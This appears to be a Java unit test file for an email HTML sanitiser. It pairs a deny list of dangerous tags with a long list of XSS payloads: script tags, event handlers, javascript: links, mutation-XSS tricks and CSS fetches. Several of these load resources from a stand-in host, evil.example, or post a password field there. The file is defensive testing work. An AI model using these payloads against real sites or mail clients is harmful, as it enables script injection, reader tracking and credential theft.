package org.tillside.channels.email;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

class SafeHtmlTest {

    private static final Set<String> NEVER =
            Set.of(
                    "script",
                    "style",
                    "iframe",
                    "object",
                    "embed",
                    "form",
                    "input",
                    "button",
                    "textarea",
                    "select",
                    "svg",
                    "math",
                    "meta",
                    "link",
                    "base",
                    "video",
                    "audio",
                    "source",
                    "template",
                    "noscript",
                    "applet",
                    "frame",
                    "frameset",
                    "marquee",
                    "dialog",
                    "portal",
                    "slot",
                    "xmp",
                    "noembed",
                    "plaintext");

    private static final List<String> ATTACKS =
            List.of(
                    "<script>alert(1)</script>",
                    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                    "<scr<script>ipt>alert(1)</scr</script>ipt>",
                    "<img src=x onerror=alert(1)>",
                    "<img src=\"x\"onerror=\"alert(1)\">",
                    "<img/src=x/onerror=alert(1)//>",
                    "<img src='x' \nonerror\n=\nalert(1)>",
                    "<img src=`x`onerror=alert(1)>",
                    "<body onload=alert(1)>x",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert(1)</script></svg>",
                    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
                    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='/></svg>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                    "<math href='javascript:alert(1)'>x</math>",
                    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                    "<template><img src=x onerror=alert(1)></template>",
                    "<a href='javascript:alert(1)'>x</a>",
                    "<a href='JaVaScRiPt:alert(1)'>x</a>",
                    "<a href=' &#14; javascript:alert(1)'>x</a>",
                    "<a href='java&#x09;script:alert(1)'>x</a>",
                    "<a href='java\nscript:alert(1)'>x</a>",
                    "<a href='&#106;avascript:alert(1)'>x</a>",
                    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                    "<a href='vbscript:msgbox(1)'>x</a>",
                    "<a href='//evil.example/x'>x</a>",
                    "<a href='/settings'>x</a>",
                    "<a href='\\\\evil.example\\x'>x</a>",
                    "<a href='blob:https://x/1'>x</a>",
                    "<a href='https:javascript:alert(1)' ping='https://evil.example'>x</a>",
                    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
                    "<img srcset='https://evil.example/1.png 1x'>",
                    "<img src=x lowsrc=https://evil.example/1 dynsrc=https://evil.example/2>",
                    "<table background='https://evil.example/1.png'><tr><td background='https://evil.example/2.png'>x</table>",
                    "<p style=\"background:url('https://evil.example/1.png')\">x</p>",
                    "<p style=\"background-image:url(&quot;https://evil.example/1.png&quot;)\">x</p>",
                    "<p style=\"background:\\75rl(https://evil.example)\">x</p>",
                    "<p style=\"width:expression(alert(1))\">x</p>",
                    "<p style=\"behavior:url(x.htc);-moz-binding:url(https://evil.example/x)\">x</p>",
                    "<p style=\"list-style:url(https://evil.example/x)\">x</p>",
                    "<p style=\"position:fixed;top:0;left:0;z-index:99999;width:100%\">x</p>",
                    "<p style=\"content:url(https://evil.example/x)\">x</p>",
                    "<style>@import 'https://evil.example/x.css';</style>",
                    "<style>p{background:url(https://evil.example/x)}</style><p>x</p>",
                    "<link rel=stylesheet href=https://evil.example/x.css>",
                    "<link rel=prefetch href=https://evil.example/x>",
                    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                    "<base href='https://evil.example/'>",
                    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
                    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x'>",
                    "<video src=https://evil.example/x poster=https://evil.example/y autoplay></video>",
                    "<audio src=x onerror=alert(1)></audio><source src=https://evil.example/x>",
                    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>ok</button></form>",
                    "<input type=image src=https://evil.example/x><isindex action=javascript:alert(1)>",
                    "<picture><source srcset='https://evil.example/x'><img src='https://evil.example/y'></picture>",
                    "<details open ontoggle=alert(1)>x</details>",
                    "<p id='frame' name='document' class='notice'>x</p><a id=location name=location>x</a>",
                    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                    "<!--><img src=x onerror=alert(1)>-->",
                    "<![CDATA[<script>alert(1)</script>]]>",
                    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
                    "<p title='</p><script>alert(1)</script>'>x</p>",
                    "<img alt='`><script>alert(1)</script>' src=x>",
                    "<img alt='\" data-remote-src=\"https://evil.example/x' src=y data-remote-src='javascript:alert(1)'>",
                    "<p>\" src=\"cid:x\" onerror=\"alert(1)\" data-remote-src=\"https://evil.example\"</p>",
                    "<b>\u0338<img title=\">\u0338\" src=x onerror=alert(1)>",
                    "<xmp><img src='</xmp><img src=x onerror=alert(1)>'></xmp>",
                    "<plaintext><script>alert(1)</script>",
                    "<textarea></p><script>alert(1)</script></textarea>",
                    "<title><img src=x onerror=alert(1)></title>",
                    "<a target=_self rel=opener href='https://evil.example'>x</a>",
                    "<\u0000script>alert(1)</script>",
                    "<div contenteditable autofocus onfocus=alert(1) tabindex=0 accesskey=x>x</div>",
                    "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>",
                    "<table><tr><td><script>alert(1)</td></tr></table>",
                    "<font color='expression(alert(1))' face='url(https://evil.example)'>x</font>");

    @ParameterizedTest
    @FieldSource("ATTACKS")
    void nothing_runs_and_nothing_is_fetched(String attack) {
        var safe = SafeHtml.of(attack);
        harmless(safe, false);
        harmless(SafeHtml.withRemoteImages(safe), true);
        harmless(SafeHtml.withInlineImages(safe, id -> "/attachments/1"), false);
        assertThat(settled(SafeHtml.of(safe))).isEqualTo(settled(safe));
    }

    /**
     * Sanitising what is safe changes nothing but the marks that only we may set (and blanks behind
     * a backtick).
     */
    private static String settled(String safe) {
        return safe.replaceAll(" data-remote-src=\"[^\"]*\"", "").replaceAll(" +\"", "\"");
    }

    private static void harmless(String html, boolean remoteWanted) {
        for (var element : Jsoup.parse(html).body().getAllElements()) {
            assertThat(NEVER).as(html).doesNotContain(element.normalName());
            element.attributes()
                    .forEach(attribute ->
                            harmless(
                                    element,
                                    attribute.getKey(),
                                    attribute.getValue(),
                                    remoteWanted));
        }
    }

    private static void harmless(Element element, String name, String value, boolean remoteWanted) {
        assertThat(name)
                .doesNotStartWith("on")
                .isNotIn(
                        "id",
                        "name",
                        "class",
                        "srcset",
                        "background",
                        "action",
                        "ping",
                        "formaction");
        var plain = value.toLowerCase(Locale.ROOT).replaceAll("[\\s\\p{Cntrl}]", "");
        switch (name) {
            case "href" -> {
                assertThat(plain).matches("(https?://|mailto:|tel:).*");
                assertThat(element.attr("target")).isEqualTo("_blank");
                assertThat(element.attr("rel")).contains("noopener", "noreferrer");
            }
            case "src" ->
                    assertThat(plain)
                            .matches(
                                    remoteWanted
                                            ? "(https?://|cid:|data:image/).*"
                                            : "(cid:|data:image/(?!svg)|/attachments/).*");
            case "style" ->
                    assertThat(plain)
                            .doesNotContain(
                                    "url",
                                    "expression",
                                    "position",
                                    "z-index",
                                    "behavior",
                                    "content:",
                                    "@import",
                                    "\\");
            default -> assertThat(name).isNotIn("style", "xlink:href", "poster", "data");
        }
    }

    @Test
    void tables_styles_and_links_of_honest_mails_stay() {
        var safe =
                SafeHtml.of(
                        "<table width=600 cellpadding=4><tr><td style='padding:4px;color:#333' colspan=2><a href='https://shop.example/?a=1'>shop</a></td></tr></table>");
        var table = Jsoup.parse(safe);
        assertThat(table.selectFirst("td[colspan=2]")).isNotNull();
        assertThat(table.selectFirst("td").attr("style")).contains("padding:4px", "color:#333");
        assertThat(table.selectFirst("a").attr("href")).isEqualTo("https://shop.example/?a=1");
    }

    @Test
    void remote_pictures_wait_until_asked() {
        var safe =
                SafeHtml.of("<img src='https://shop.example/a.png?x=1&amp;y=2' alt=lamp width=10>");
        assertThat(safe).doesNotContain(" src=");
        assertThat(SafeHtml.hasRemoteImages(safe)).isTrue();
        assertThat(Jsoup.parse(SafeHtml.withRemoteImages(safe)).selectFirst("img").attr("src"))
                .isEqualTo("https://shop.example/a.png?x=1&y=2");
    }

    @Test
    void pictures_that_came_along_are_shown_from_our_own_place() {
        var safe = SafeHtml.of("<img src='cid:a%40b'><img src='cid:c@d'><img src=\"CID:unknown\">");
        var urls = Map.of("a@b", "/x?n=1&\"q\"", "c@d", "/y");
        var shown = Jsoup.parse(SafeHtml.withInlineImages(safe, urls::get)).select("img");
        assertThat(shown.eachAttr("src")).containsExactly("/x?n=1&\"q\"", "/y");
        assertThat(shown).hasSize(3);
    }

    @Test
    void hidden_words_do_not_turn_up() {
        assertThat(
                        SafeHtml.of(
                                "<p>seen</p><div style='display : none'>hidden</div><span hidden>too</span>"))
                .isEqualTo("<p>seen</p>");
    }

    @Test
    void small_pictures_within_the_html_are_kept_but_no_drawings() {
        assertThat(SafeHtml.of("<img src='data:image/png;base64,AAAA'>"))
                .contains("data:image/png");
        assertThat(SafeHtml.of("<img src='data:image/svg+xml;base64,AAAA'>"))
                .doesNotContain("data:");
        assertThat(SafeHtml.of("<img src='data:text/html;base64,AAAA'>")).doesNotContain("data:");
    }
}
